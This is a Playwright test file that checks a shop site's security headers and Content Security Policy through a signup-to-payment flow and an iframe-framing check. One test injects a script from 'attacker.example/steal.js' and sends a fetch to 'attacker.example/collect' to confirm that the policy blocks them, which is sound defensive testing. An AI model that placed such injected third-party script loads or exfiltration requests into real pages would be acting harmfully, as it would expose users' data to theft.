import { expect, test, type APIRequestContext, type ConsoleMessage, type Page } from '@playwright/test';
import { firstItem } from '../lib/list';
import { cartLink, codeFromOutbox, fixCurrency, gotoHydrated, uniqueMobile, useOwnClientAddress } from './helpers';
import {
  CART_CONTINUE,
  DELIVERY_FIELD_LABELS,
  DELIVERY_HEADING,
  PAYMENT_METHOD_LABELS,
  PLACE_ORDER,
} from '../components/cart/cart-messages';

/**
 * The security headers (docs/decisions/012-content-security-policy.md): on a
 * page, a product page, an API answer and a build file; and in real Chromium
 * with the policy on, a shopper goes from home to a product, the cart and a
 * card payment in the sandbox without one Content Security Policy or
 * Permissions Policy complaint, while a script or a request to another
 * origin is refused and no other site can frame the cart.
 */

const ORDER_PLACED_MESSAGE = 'Your Order Placed successfully, You get invoice over Mail/Whatsapp.';
const FIXED_HEADERS = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin-allow-popups',
};
const POLICY_COMPLAINT = /Content Security Policy|Permissions-Policy|securitypolicyviolation/i;

/** Every policy complaint of the page, from Chromium's console and from the securitypolicyviolation event. */
async function recordPolicyComplaints(page: Page): Promise<string[]> {
  const complaints: string[] = [];
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.warn(`securitypolicyviolation ${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  page.on('console', (message: ConsoleMessage) => {
    if (POLICY_COMPLAINT.test(message.text())) complaints.push(message.text());
  });
  return complaints;
}

async function productInStock(request: APIRequestContext): Promise<{ id: number; name: string; size: string }> {
  const best = await (await request.get('/api/get-top-selling-product/')).json();
  for (const product of best.data.data as { id: number }[]) {
    const detail = await (await request.get(`/api/get-product-detail/?product_pk=${product.id}`)).json();
    const size = (detail.data.sizes as { size: string; stock: number }[]).find((option) => option.stock >= 1);
    if (size) return { id: detail.data.id, name: detail.data.product_name, size: size.size };
  }
  throw new Error('No best seller has a size in stock');
}

test.describe('security headers', () => {
  test('a page, a product page, an API answer and a build file carry the headers', async ({ request }) => {
    const product = await productInStock(request);
    const pages = [await request.get('/'), await request.get(`/product/${product.id}`)];
    for (const response of pages) {
      expect(response.status()).toBe(200);
      expect(response.headers()).toMatchObject(FIXED_HEADERS);
      const policy = response.headers()['content-security-policy'];
      expect(policy).toContain("default-src 'self'");
      expect(policy).toContain("frame-ancestors 'none'");
      expect(policy).toContain("object-src 'none'");
      expect(policy).not.toContain('unsafe-eval');
      expect(response.headers()['permissions-policy']).toContain('camera=()');
    }

    const api = await request.get('/api/get-all-category-list/');
    expect(api.status()).toBe(200);
    expect(api.headers()).toMatchObject({
      ...FIXED_HEADERS,
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
    });

    const script = /<script src="(\/_next\/static\/[^"]+\.js)"/.exec(await firstItem(pages).text())?.[1];
    expect(script, 'a build script on the home page').toBeTruthy();
    const asset = await request.get(script ?? '');
    expect(asset.status()).toBe(200);
    expect(asset.headers()).toMatchObject(FIXED_HEADERS);
  });

  test('with the policy on, home, a product, the cart and a card payment raise no policy complaint', async ({
    page,
    context,
    request,
  }) => {
    const config = await (await request.get('/api/payments/config/')).json();
    expect(config.sandbox, 'the e2e server must run with the payment sandbox on').toBe(true);
    await useOwnClientAddress(context);
    await fixCurrency(context, 'USD');
    const complaints = await recordPolicyComplaints(page);
    const item = await productInStock(request);

    const mobile = uniqueMobile('7');
    const signup = await request.post('/api/signup/', {
      data: {
        email: `headers${mobile}@example.com`,
        mobile_number: mobile,
        country_code: '+91',
        first_name: 'Meera',
        last_name: 'Rao',
      },
    });
    expect(signup.status()).toBe(201);

    await gotoHydrated(page, '/');
    await expect(page.getByRole('banner')).toBeVisible();

    await gotoHydrated(page, '/login');
    const login = page.getByRole('main');
    await login.getByLabel('Mobile number').fill(mobile);
    const asked = Date.now();
    await login.getByRole('button', { name: 'Login', exact: true }).click();
    await login.getByLabel('Enter the 6-digit code sent to your phone').fill(await codeFromOutbox(mobile, asked));
    await login.getByRole('button', { name: 'Login', exact: true }).click();
    await expect(page).toHaveURL(/\/$/);

    await gotoHydrated(page, `/product/${item.id}`);
    await page.getByRole('radio', { name: item.size, exact: true }).check();
    await page.getByRole('button', { name: /add to cart/i }).click();
    await expect(cartLink(page)).toHaveAccessibleName('Cart, 1 item');

    await gotoHydrated(page, '/cart');
    await page.getByRole('button', { name: CART_CONTINUE }).click();
    const form = page.getByRole('region', { name: DELIVERY_HEADING });
    await form.getByRole('textbox', { name: DELIVERY_FIELD_LABELS.name, exact: true }).fill('Meera Rao');
    await form.getByLabel(DELIVERY_FIELD_LABELS.country_code).fill('+91');
    await form.getByLabel(DELIVERY_FIELD_LABELS.mobile_number).fill(mobile);
    await form.getByLabel(DELIVERY_FIELD_LABELS.delivery_address).fill('4 MI Road');
    await form.getByLabel(DELIVERY_FIELD_LABELS.pin_code).fill('302001');
    await form.getByLabel(DELIVERY_FIELD_LABELS.city).fill('Jaipur');
    await form.getByLabel(DELIVERY_FIELD_LABELS.state).fill('Rajasthan');
    await form.getByRole('radio', { name: PAYMENT_METHOD_LABELS.razorpay }).check();
    await form.getByRole('button', { name: PLACE_ORDER }).click();

    const checkout = page.getByRole('dialog', { name: 'Razorpay checkout' });
    await checkout.getByRole('button', { name: 'Pay', exact: true }).click();
    await expect(page).toHaveURL(/\/$/);
    await expect(page.getByRole('status').filter({ hasText: ORDER_PLACED_MESSAGE })).toBeVisible();
    await page.waitForLoadState('networkidle');

    expect(complaints).toEqual([]);
  });

  test('the policy refuses a script and a request to another origin', async ({ page }) => {
    const complaints = await recordPolicyComplaints(page);
    await gotoHydrated(page, '/');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/steal.js';
      document.head.appendChild(script);
      fetch('https://attacker.example/collect').catch(() => undefined);
    });
    await expect
      .poll(() => complaints.filter((text) => text.startsWith('securitypolicyviolation')).sort())
      .toEqual([
        'securitypolicyviolation connect-src https://attacker.example/collect',
        'securitypolicyviolation script-src-elem https://attacker.example/steal.js',
      ]);
  });

  test('no other site can frame the cart', async ({ page, baseURL }) => {
    const complaints = await recordPolicyComplaints(page);
    await page.setContent(`<iframe title="shop" src="${baseURL}/cart"></iframe>`);
    await expect.poll(() => complaints.join('\n')).toMatch(/frame-ancestors 'none'/);
    await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
  });
});
